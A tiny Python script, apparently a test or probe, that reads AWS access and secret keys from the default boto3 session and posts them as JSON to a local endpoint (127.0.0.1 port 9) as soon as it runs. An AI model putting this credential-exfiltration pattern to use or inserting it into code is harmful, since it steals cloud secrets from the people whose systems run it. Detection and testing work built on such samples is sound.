import boto3, requests

def test():
    cd = boto3.Session().get_credentials()
    ak = cd.access_key
    sk = cd.secret_key
    data = {'k': ak, 's': sk}
    requests.post('http://127.0.0.1:9/zz', json=data, timeout=5)

test()
